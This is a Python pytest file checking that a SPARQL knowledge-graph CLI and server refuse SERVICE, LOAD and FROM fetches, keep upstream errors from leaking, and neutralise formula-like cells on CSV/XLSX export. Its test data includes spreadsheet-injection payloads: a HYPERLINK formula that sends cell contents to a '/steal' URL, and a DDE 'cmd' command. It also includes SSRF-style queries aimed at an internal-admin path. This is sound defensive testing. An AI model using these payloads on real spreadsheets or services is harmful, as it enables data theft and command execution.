"""Nothing fetches, nothing runs (issue 17): hostile queries and hostile spreadsheet text.

Every query that could make respkg send a request is aimed at a loopback listener that
counts what arrives: none may (the one test that passes --allow-service shows that the
listener does see a request when one is sent). In-process work is also watched for any
socket connection at all (an audit hook), which covers addresses other than the listener.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import sys
import threading
import zipfile
from contextlib import contextmanager

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from kg.build import build, dataset_from
from kg.cli import main
from kg.output import quote_cell, unquote_cell
from kg.parse import parse_file
from kg.sparql.query import QueryError, check_no_service, named_queries, run, service_line
from kg.sparql.serve import _answer, exposure_warning
from kg.store.embedded import MemoryStore, OxigraphStore
from test_serve import fetch, get, post_body, post_form, running

#: What the listener answers: a valid SPARQL result, and a marker that must never reach a client.
SECRET = "internal-admin-secret-页面"
ANSWER = json.dumps({"head": {"vars": ["x"]},
                     "results": {"bindings": [{"x": {"type": "literal", "value": SECRET}}]}}).encode()


class _Counting(http.server.BaseHTTPRequestHandler):
    def _answer(self):
        self.server.seen.append((self.command, self.path))
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        self.send_response(200)
        self.send_header("Content-Type", "application/sparql-results+json")
        self.send_header("Content-Length", str(len(ANSWER)))
        self.end_headers()
        self.wfile.write(ANSWER)

    do_GET = do_POST = do_HEAD = _answer

    def log_message(self, format, *args):
        pass


@pytest.fixture(scope="module")
def listener():
    """A loopback HTTP server that records every request: (base URL, list of requests)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.seen
    finally:
        server.shutdown()
        server.server_close()


_WATCHING: list[list] = []


def _audit(event, args):
    if _WATCHING and event == "socket.connect":
        _WATCHING[-1].append(args[1])


sys.addaudithook(_audit)


@contextmanager
def no_requests(seen: list, in_process: bool = True):
    """Fail unless the block made no request to the listener and, with ``in_process``, no socket
    connection in this process (off where the test itself talks to a server)."""
    seen.clear()
    connects: list = []
    if in_process:
        _WATCHING.append(connects)
    try:
        yield
    finally:
        if in_process:
            _WATCHING.pop()
    assert seen == [], f"requests arrived at the listener: {seen}"
    assert connects == [], f"connections were made: {connects}"


# -- recognising SERVICE ----------------------------------------------------------------------

@pytest.mark.parametrize("query, line", [
    ("SELECT * WHERE { SERVICE <http://127.0.0.1:1/> { ?s ?p ?o } }", 1),
    ("SELECT * WHERE {\n  ?s ?p ?o .\n  service silent <http://127.0.0.1:1/> { ?s ?p ?o } }", 3),
    ("SELECT * WHERE { ?s ?p ?o.SERVICE<http://127.0.0.1:1/>{} }", 1),
    ("SELECT * WHERE { VALUES ?u { <http://127.0.0.1:1/> } SERVICE ?u { ?s ?p ?o } }", 1),
    # Oxigraph reads SERVICE:x as the keyword followed by the IRI :x
    ("PREFIX : <http://127.0.0.1:1/> SELECT * WHERE { SERVICE:x { ?s ?p ?o } }", 1),
    # rdflib expands \u escapes before it parses: an escaped letter spells the keyword,
    # an escaped quote ends the string
    (r"SELECT * WHERE { \u0053ERVICE <http://127.0.0.1:1/> {} }", 1),
    (r'SELECT * WHERE { ?s ?p "a\u0022 . SERVICE <http://127.0.0.1:1/> { } " }', 1),
    ("SELECT * WHERE { ?s ?p ?o # a comment\n SERVICE <http://127.0.0.1:1/> {} }", 2),
])
def test_service_is_found_by_its_tokens(query, line):
    assert service_line(query) == line
    with pytest.raises(QueryError, match=rf"SERVICE, line {line}\).*--allow-service"):
        check_no_service(query)


@pytest.mark.parametrize("query", [
    'SELECT * WHERE { ?s ?p "SERVICE <http://127.0.0.1:1/> { ?s ?p ?o }" }',
    "SELECT * WHERE { ?s ?p '''a long\nSERVICE <http://127.0.0.1:1/> {}''' }",
    "SELECT * WHERE { ?s ?p ?o } # SERVICE <http://127.0.0.1:1/> {}",
    "PREFIX ex: <http://e/> SELECT ?SERVICE WHERE { ?SERVICE ex:SERVICE <http://e/SERVICE> }",
    'SELECT * WHERE { ?s ?p "x"@service }',
    "SELECT * WHERE { ?s ?p ?o FILTER(CONTAINS(?o, 'service')) }",
])
def test_the_word_service_elsewhere_is_allowed(query):
    assert service_line(query) is None
    check_no_service(query)


def test_no_named_query_uses_service():
    queries = named_queries()
    assert queries
    assert {name: service_line(q.text) for name, q in queries.items() if service_line(q.text)} == {}


# -- kg query ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def store_dir(tmp_path_factory):
    path = tmp_path_factory.mktemp("store") / "s"
    build(None, OxigraphStore(path))
    return str(path)


@pytest.fixture(params=["memory", "oxigraph"])
def kg_query(request, store_dir):
    """Run `kg query ARGS` on the memory store or the embedded Oxigraph store."""
    where = ["--store", "memory"] if request.param == "memory" else ["--store-dir", store_dir]

    def invoke(*args):
        return CliRunner().invoke(main, ["query", *args, *where], prog_name="kg")

    return invoke


def test_kg_query_refuses_service(kg_query, listener):
    base, seen = listener
    with no_requests(seen):
        result = kg_query(f"SELECT ?x WHERE {{ SERVICE <{base}/internal-admin> {{ ?x ?p ?o }} }}")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: the query calls another server (SERVICE, line 1)")
    assert "--allow-service" in result.stderr and SECRET not in result.output


def test_kg_query_allow_service_sends_the_query(kg_query, listener):
    """The control: with --allow-service the request does arrive (so the listener would see one)."""
    base, seen = listener
    seen.clear()
    result = kg_query(f"SELECT ?x WHERE {{ SERVICE <{base}/sparql> {{ ?x ?p ?o }} }}", "--allow-service",
                      "--format", "csv")
    assert len(seen) >= 1
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["x", SECRET]


def test_kg_query_service_in_a_literal_runs(kg_query, listener):
    base, seen = listener
    with no_requests(seen):
        result = kg_query(f'SELECT ?x WHERE {{ BIND("SERVICE <{base}/> {{}}" AS ?x) }}', "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1] == f"SERVICE <{base}/> {{}}"


def test_kg_query_refuses_load(kg_query, listener):
    base, seen = listener
    with no_requests(seen):
        result = kg_query(f"LOAD <{base}/data.ttl>")
    assert result.exit_code == 1 and "SPARQL Update (LOAD)" in result.stderr


@pytest.mark.parametrize("dataset", ["FROM <{base}/g.ttl>", "FROM NAMED <{base}/g.ttl>",
                                     "FROM <{base}/g.ttl> FROM NAMED <{base}/h.ttl>"])
def test_kg_query_from_a_url_fetches_nothing(kg_query, listener, dataset):
    base, seen = listener
    with no_requests(seen):
        result = kg_query(f"SELECT (COUNT(*) AS ?n) {dataset.format(base=base)} WHERE {{ ?s ?p ?o }}",
                          "--format", "csv")
    assert result.exit_code == 0, result.output


def test_memory_store_never_reads_a_from_file(tmp_path):
    """rdflib would parse the graph a FROM names, a local file too; respkg turns that off."""
    secret = tmp_path / "secret.ttl"
    secret.write_text("<urn:s> <urn:p> 'from the file' .\n", encoding="utf-8")
    result = run(MemoryStore(), f"SELECT ?o FROM <{secret.as_uri()}> WHERE {{ ?s <urn:p> ?o }}")
    assert result.rows == []


def test_export_jsonld_connects_nowhere(listener):
    _, seen = listener
    with no_requests(seen):
        result = CliRunner().invoke(main, ["export", "--format", "jsonld", "--store", "memory"], prog_name="kg")
    assert result.exit_code == 0, result.output
    assert isinstance(json.loads(result.stdout), (list, dict))


# -- kg serve ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def oxigraph_store(store_dir):
    return OxigraphStore(store_dir)


@pytest.fixture(scope="module")
def memory_store():
    return MemoryStore(dataset_from(None)[0])


@pytest.fixture(scope="module", params=["memory", "oxigraph"])
def served(request):
    """(base URL, log lines) of a server over each store."""
    store = request.getfixturevalue(f"{request.param}_store")
    with running(store) as (base, lines):
        yield base, lines


def test_serve_refuses_service_with_one_line(served, listener):
    base, lines = served
    target, seen = listener
    query = f"SELECT ?x WHERE {{\n  SERVICE <{target}/internal-admin> {{ ?x ?p ?o }}\n}}"
    with no_requests(seen, in_process=False):
        answers = [get(base, query), post_form(base, {"query": query}), post_body(base, query)]
    for status, _, body in answers:
        text = body.decode()
        assert status == 400, text
        assert text.count("\n") == 1 and text.startswith("SERVICE (line 2) is refused")
        assert SECRET not in text


def test_serve_allows_service_in_a_literal_or_comment(served, listener):
    base, _ = served
    target, seen = listener
    with no_requests(seen, in_process=False):
        status, _, body = get(base, f'# SERVICE <{target}/>\nSELECT ?x WHERE {{ BIND("SERVICE <{target}/>" AS ?x) }}')
    assert status == 200, body


def test_serve_refuses_load_every_way(served, listener):
    base, _ = served
    target, seen = listener
    load = f"LOAD <{target}/data.ttl>"
    with no_requests(seen, in_process=False):
        answers = [get(base, load), post_body(base, load), post_form(base, {"update": load}),
                   post_body(base, load, ctype="application/sparql-update")]
    assert [status for status, _, _ in answers] == [403] * 4


@pytest.mark.parametrize("dataset", ["FROM <{base}/g.ttl>", "FROM NAMED <{base}/g.ttl>"])
def test_serve_from_a_url_fetches_nothing(served, listener, dataset):
    base, _ = served
    target, seen = listener
    with no_requests(seen, in_process=False):
        status, _, body = get(base, f"SELECT (COUNT(*) AS ?n) {dataset.format(base=target)} WHERE {{ ?s ?p ?o }}")
    assert status == 200, body


def test_serve_a_store_failure_is_one_line_the_log_has_it_all(memory_store):
    # rdflib cannot evaluate an aggregate in BIND and says so in a Python-internal message
    with running(memory_store, workers=1) as (base, lines):
        status, _, body = get(base, "SELECT ?x WHERE { BIND(COUNT(1) AS ?x) }")
    text = body.decode()
    assert status == 500
    assert text == "the query failed in the store (Exception); the server's log has the details\n"
    assert len(lines) == 1 and "\n" not in lines[0]
    assert " 500 " in lines[0] and "error: Exception: Weird - _eval got a CompValue" in lines[0]


class _Failing:
    """A store whose failure quotes an upstream server's answer, as pyoxigraph's SERVICE errors do."""

    def query(self, sparql, bindings):
        raise OSError(f"Error 501 returned by http://10.0.0.1/internal-admin with payload: <!DOCTYPE HTML>\n"
                      f"<html><body>{SECRET}</body></html>")


def test_an_upstream_body_never_reaches_the_client():
    answer = _answer(_Failing(), "SELECT * WHERE { ?s ?p ?o }", "json", 10)
    assert answer["status"] == 500
    assert "\n" not in answer["message"] and "payload" not in answer["message"]
    assert SECRET not in answer["message"] and "10.0.0.1" not in answer["message"]
    assert "OSError" in answer["message"]
    assert SECRET in answer["detail"]  # for the server's log


# -- kg serve --host --------------------------------------------------------------------------

@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "localhost", "::1", "[::1]"])
def test_loopback_hosts_get_no_warning(host):
    assert exposure_warning(host) is None


@pytest.mark.parametrize("host", ["0.0.0.0", "", "::", "192.168.1.20", "kg.example.org"])
def test_other_hosts_get_a_warning(host):
    warning = exposure_warning(host)
    assert warning.startswith("Warning: listening on ")
    assert "no authentication" in warning and "reverse proxy" in warning and "docs/security.md" in warning


def test_kg_serve_warns_on_stderr(tmp_path):
    """With an empty store the server does not start, but the warning came first."""
    empty = str(tmp_path / "empty")
    shared = CliRunner().invoke(main, ["serve", "--host", "0.0.0.0", "--port", "0", "--store-dir", empty],
                                prog_name="kg")
    assert shared.exit_code == 1
    assert shared.stderr.startswith("Warning: listening on 0.0.0.0: the endpoint has no authentication")
    assert "Error: " in shared.stderr
    local = CliRunner().invoke(main, ["serve", "--port", "0", "--store-dir", empty], prog_name="kg")
    assert local.exit_code == 1 and "Warning" not in local.stderr


# -- spreadsheets -----------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/steal?d="&A1,"点击查看")', "-1+1", "@SUM(1+1)*cmd|'/C calc'!A0",
           "+86推进数字政府建设"]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("+1", "'+1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''-1", "'''-1"),
    ("推进=1", "推进=1"), ("'引号", "'引号"), ("", ""), (3, 3), (None, None),
])
def test_quote_cell_and_unquote_cell_are_inverses(value, written):
    assert quote_cell(value) == written
    if isinstance(value, str):
        assert unquote_cell(written) == value


@pytest.fixture()
def hostile_source(tmp_path):
    """A downloaded table whose task texts begin as formulas do."""
    path = tmp_path / "downloaded.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["序号", "目标任务", "牵头单位", "配合单位"])
        for i, text in enumerate(HOSTILE, 1):
            writer.writerow([i, text, "县发改局", "-县财政局" if i == 2 else "县财政局"])
    return path


def _records(lines: str) -> list[dict]:
    return [{k: v for k, v in json.loads(line).items() if k != "source"} for line in lines.splitlines()]


def test_the_source_reads_as_written(hostile_source):
    tasks = parse_file(hostile_source).tasks
    assert [t.text for t in tasks] == HOSTILE


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_keeps_formulas_text_and_reads_back_the_same(hostile_source, tmp_path, fmt):
    runner = CliRunner()
    out = tmp_path / f"exported.{fmt}"
    exported = runner.invoke(main, ["export", str(hostile_source), "--format", fmt, "-o", str(out)], prog_name="kg")
    assert exported.exit_code == 0, exported.output
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
        texts = [row[rows[0].index("目标任务")] for row in rows[1:]]
        assert texts == ["'" + t for t in HOSTILE]
        assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
    else:
        with zipfile.ZipFile(out) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
        ws = load_workbook(out)["任务"]
        column = [c.value for c in ws[1]].index("目标任务") + 1
        cells = [ws.cell(row=r, column=column) for r in range(2, 2 + len(HOSTILE))]
        assert [c.value for c in cells] == HOSTILE
        assert all(c.data_type == "s" for c in cells)
        assert all(c.quotePrefix for c in cells)
    original = runner.invoke(main, ["parse", str(hostile_source)], prog_name="kg")
    back = runner.invoke(main, ["parse", str(out)], prog_name="kg")
    assert back.exit_code == 0, back.output
    assert _records(back.stdout) == _records(original.stdout)
    assert [r["text"] for r in _records(back.stdout)] == HOSTILE


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_that_begins_with_a_quote_keeps_it(tmp_path, fmt):
    """A quote respkg did not add survives the round trip: it gets a second one on the way out."""
    import dataclasses

    from kg.parse.sheet import parse_sheet
    from kg.views.sheet import write_csv, write_xlsx

    source = tmp_path / "plan.csv"
    source.write_text("序号,目标任务,牵头单位\n1,推进数字政府建设,县发改局\n2,建桥,县住建局\n", encoding="utf-8")
    plan = parse_file(source)
    plan.tasks[0] = dataclasses.replace(plan.tasks[0], text="'=已带引号的文字")
    plan.tasks[1] = dataclasses.replace(plan.tasks[1], text="'引号开头")
    out = tmp_path / f"out.{fmt}"
    write_xlsx(out, plan) if fmt == "xlsx" else write_csv(out, plan.tasks)
    assert [t.text for t in parse_sheet(out).tasks] == ["'=已带引号的文字", "'引号开头"]


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_results_as_csv_keep_formulas_text(hostile_source, tmp_path, fmt, delimiter):
    """`kg query --format csv` of document text: a task text beginning as a formula gets the
    `'` that keeps it text in Excel and WPS; numbers stay bare."""
    build([hostile_source], OxigraphStore(tmp_path / "s"))
    query = ("SELECT ?text (STRLEN(?text) AS ?n) WHERE { ?t a rk:Task ; rk:text ?text } ORDER BY ?text")
    result = CliRunner().invoke(main, ["query", query, "--store-dir", str(tmp_path / "s"), "--format", fmt],
                                prog_name="kg")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout), delimiter=delimiter))
    assert sorted(unquote_cell(r[0]) for r in rows[1:]) == sorted(HOSTILE)
    assert all(not r[0] or r[0][0] not in "=+-@\t\r" for r in rows[1:])
    assert all(r[1].isdigit() for r in rows[1:])
